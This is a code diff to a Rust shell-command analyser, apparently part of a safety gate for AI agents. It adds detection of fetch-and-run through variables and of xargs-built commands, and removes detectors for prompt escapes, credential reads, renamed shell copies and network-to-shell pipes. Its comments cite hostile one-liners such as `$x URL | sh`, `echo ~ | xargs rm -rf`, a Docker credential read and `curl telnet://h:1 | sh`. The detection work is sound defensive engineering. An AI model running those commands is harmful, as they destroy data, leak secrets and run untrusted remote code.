@@ -245,6 +245,31 @@ impl<'c> Walker<'c> {
             self.rce_from(url, via, text);
             return;
         }
+        // The fetcher named through a variable (`x=curl; $x URL | sh`).
+        let via_var = upstream.iter().find_map(|c| {
+            let first = c.argv.first()?;
+            if !first.raw.starts_with('$') {
+                return None;
+            }
+            let resolved = self.resolve_vars(&first.raw)?;
+            let prog = resolved.split_whitespace().next()?;
+            FETCHERS
+                .contains(&paths::basename(prog))
+                .then(|| {
+                    c.argv
+                        .iter()
+                        .skip(1)
+                        .map(Word::value_or_raw)
+                        .chain(resolved.split_whitespace().skip(1))
+                        .find(|v| net::looks_like_url(v))
+                        .map(str::to_owned)
+                })
+                .flatten()
+        });
+        if let Some(url) = via_var {
+            self.rce_from(&url, via, text);
+            return;
+        }
         if let Some(payload) = decode_chain(&upstream) {
             let encoded = upstream.iter().any(|c| {
                 c.name().is_some_and(|n| {
@@ -417,6 +442,36 @@ impl<'c> Walker<'c> {
         }
         if i < vals.len() {
             self.simple(site, all, start + 1 + i);
+            // Input that is fixed text (`echo ~ | xargs rm -rf`): the
+            // command xargs builds from it, judged as written out.
+            let pos = site.cmd.pipeline;
+            let input = (pos.index > 0)
+                .then(|| decode_chain(&upstream(site)))
+                .flatten()
+                .filter(|t| t.len() <= 4096);
+            if let Some(input) = input {
+                let replace = vals.windows(2).find_map(|w| match w {
+                    ["-I", r] | ["--replace", r] => Some(*r),
+                    _ => None,
+                });
+                let cmd: Vec<&str> = all
+                    .get(start + 1 + i..)
+                    .unwrap_or(&[])
+                    .iter()
+                    .map(|a| a.word.raw.as_str())
+                    .collect();
+                for item in input.split_whitespace().take(16) {
+                    let line = match replace {
+                        Some(r) => cmd
+                            .iter()
+                            .map(|w| w.replace(r, item))
+                            .collect::<Vec<_>>()
+                            .join(" "),
+                        None => format!("{} {item}", cmd.join(" ")),
+                    };
+                    self.script(&line, site.depth + 1);
+                }
+            }
         }
     }
 
@@ -570,217 +625,5 @@ impl<'c> Walker<'c> {
             }
             i += 1;
         }
-    }
-}
-
-impl<'c> Walker<'c> {
-    /// Standard input to a program with a command prompt
-    /// (`agentgate_commands::PROMPTS`) is a script for that prompt: a line
-    /// starting with one of its escapes runs the rest of the line.
-    pub(super) fn prompt_escapes(&mut self, site: Site<'_>, name: &str) {
-        let Some(p) = agentgate_commands::prompt(name) else {
-            return;
-        };
-        let input = site
-            .cmd
-            .redirects
-            .iter()
-            .find_map(|r| r.input_text.clone())
-            .or_else(|| {
-                let pos = site.cmd.pipeline;
-                (pos.index > 0 && pos.len >= 2)
-                    .then(|| decode_chain(&upstream(site)))
-                    .flatten()
-            });
-        let Some(input) = input else {
-            return;
-        };
-        let text = &site.cmd.text;
-        // A credential file named in the prompt's input is read by it
-        // (sqlite3's `.import ~/.docker/config.json x`).
-        for tok in paths::tokens(&input) {
-            if let Some((sev, what)) = paths::credential(tok) {
-                self.find(
-                    Cred,
-                    sev,
-                    format!("hands {name} input that reads {what} ({tok})"),
-                    text,
-                );
-            }
-        }
-        for line in input.lines().take(256) {
-            let line = line.trim_start();
-            let Some((esc, rest)) = p.escapes.iter().find_map(|e| {
-                line.strip_prefix(e).map(|r| {
-                    // `esyscmd(CMD)`: the command inside the call.
-                    let r = r.trim();
-                    let r = if e.ends_with('(') {
-                        r.strip_suffix(')').unwrap_or(r)
-                    } else {
-                        r
-                    };
-                    (*e, r)
-                })
-            }) else {
-                continue;
-            };
-            self.find(
-                Obf,
-                Medium,
-                format!("runs a command from {name}'s prompt ({})", esc.trim()),
-                text,
-            );
-            if rest.is_empty() {
-                continue;
-            }
-            if p.lang == agentgate_commands::Lang::Shell {
-                self.script(rest, site.depth + 1);
-            } else {
-                self.code(site, name, rest);
-            }
-        }
-    }
-}
-
-impl<'c> Walker<'c> {
-    /// Remembers what later commands of the line depend on: an archive
-    /// fetched earlier and unpacked now (what runs from it next is code
-    /// from the network), and a shell copied or linked under another name
-    /// (running that name runs a shell).
-    pub(super) fn copies_and_unpacks(&mut self, name: &str, rest: &[Arg<'_>], vals: &[&str]) {
-        let unpacks = match name {
-            "tar" | "gtar" | "bsdtar" => vals.iter().any(|v| {
-                v.starts_with('-') && !v.starts_with("--") && v.contains('x')
-                    || *v == "--extract"
-                    || (!v.starts_with('-')
-                        && v.contains('x')
-                        && v.len() <= 5
-                        && v.chars().all(|c| c.is_ascii_alphabetic()))
-            }),
-            "unzip" | "ditto" => true,
-            "7z" | "7za" | "7zz" => vals.first().is_some_and(|v| *v == "x" || *v == "e"),
-            _ => false,
-        };
-        if unpacks
-            && vals
-                .iter()
-                .any(|v| self.downloaded.iter().any(|d| same_file(d, v)))
-        {
-            self.download_unpacked = true;
-        }
-        if !matches!(name, "cp" | "ln" | "install" | "ditto" | "rsync") {
-            return;
-        }
-        let operands: Vec<&Arg<'_>> = rest.iter().filter(|a| !a.v().starts_with('-')).collect();
-        let Some((dest, sources)) = operands.split_last() else {
-            return;
-        };
-        let copies_shell = sources.iter().any(|s| {
-            let v = s.v();
-            (v.starts_with('/') || v.contains("$(which") || v.contains("`which"))
-                && SHELLS.contains(&paths::basename(v.trim_end_matches([')', '`'])))
-        });
-        if !copies_shell {
-            return;
-        }
-        // Only a copy under another name hides a shell (`cp /usr/bin/busybox
-        // initramfs/bin/` keeps its name); the directory it went to is
-        // remembered for programs that run a whole directory (run-parts).
-        if dest.v().ends_with('/') {
-            for d in self.arg_paths(dest) {
-                self.shell_dirs.push(d);
-            }
-            return;
-        }
-        for d in self.arg_paths(dest) {
-            if !SHELLS.contains(&paths::basename(&d)) {
-                self.shell_copies.push(d);
-            }
-        }
-    }
-}
-
-impl<'c> Walker<'c> {
-    /// A directory holding a copy of a shell made earlier in the line,
-    /// handed to a program or put on `PATH` (GTFOBins zypper: `cp /bin/sh
-    /// /tmp/td/zypper-x; PATH=$PATH:/tmp/td zypper x`; rustup: a toolchain
-    /// whose `rustc` is a shell): the program will run the shell.
-    pub(super) fn hands_shell_copy(&mut self, site: Site<'_>, name: &str, rest: &[Arg<'_>]) {
-        if self.shell_copies.is_empty() && self.shell_dirs.is_empty()
-            || agentgate_commands::TREE_CHANGERS.contains(&name)
-            || agentgate_commands::PURE_READERS.contains(&name)
-        {
-            return;
-        }
-        let runs_directory = matches!(name, "run-parts");
-        let held = rest.iter().flat_map(|a| self.arg_paths(a)).find(|p| {
-            self.shell_copies.iter().any(|c| paths::within(c, p))
-                || runs_directory && self.shell_dirs.iter().any(|d| same_file(d, p))
-        });
-        if let Some(p) = held {
-            self.find(
-                Obf,
-                Medium,
-                format!("hands {name} {p}, which holds a copy of a shell under another name"),
-                &site.cmd.text,
-            );
-        }
-    }
-
-    /// `PATH=...:DIR` where DIR holds a copy of a shell made earlier.
-    pub(super) fn path_with_shell_copy(&mut self, var: &str, raw: &str, text: &str) {
-        if self.shell_copies.is_empty() || var != "PATH" {
-            return;
-        }
-        let dirs: Vec<String> = raw
-            .trim_matches(['"', '\''])
-            .split(':')
-            .filter(|d| !d.contains('$') && !d.is_empty())
-            .filter_map(|d| paths::absolute(d, d, d.starts_with('~'), &self.ctx))
-            .collect();
-        if let Some(d) = dirs
-            .iter()
-            .find(|d| self.shell_copies.iter().any(|c| paths::within(c, d)))
-        {
-            self.find(
-                Obf,
-                Medium,
-                format!("puts {d}, which holds a copy of a shell under another name, on PATH"),
-                text,
-            );
-        }
-    }
-}
-
-impl<'c> Walker<'c> {
-    /// The program of `cmd` when it opens a network connection that data
-    /// flows through: netcat and its kin, `openssl s_client`, `telnet`,
-    /// `curl telnet://`, also when named through a variable assigned
-    /// earlier (`C='curl -Ns telnet://h:1'; $C | sh`).
-    pub(super) fn network_client(&self, cmd: &SimpleCommand) -> Option<String> {
-        let raw: Vec<String> = cmd
-            .argv
-            .iter()
-            .map(|w| w.value_or_raw().to_owned())
-            .collect();
-        let mut words: Vec<String> = Vec::new();
-        for (i, w) in raw.iter().enumerate() {
-            match self.resolve_vars(w) {
-                Some(v) if i == 0 && w.starts_with('$') => {
-                    words.extend(v.split_whitespace().map(str::to_owned))
-                }
-                _ => words.push(w.clone()),
-            }
-        }
-        let name = paths::basename(words.first()?).to_owned();
-        let args = words.get(1..).unwrap_or(&[]);
-        let connects = NETCAT.contains(&name.as_str())
-            || matches!(name.as_str(), "telnet" | "ztcp" | "socat" | "rcat")
-            || name == "openssl" && args.iter().any(|a| a == "s_client")
-            || FETCHERS.contains(&name.as_str())
-                && args
-                    .iter()
-                    .any(|a| a.starts_with("telnet://") || a.starts_with("tcp://"));
-        connects.then_some(name)
     }
 }
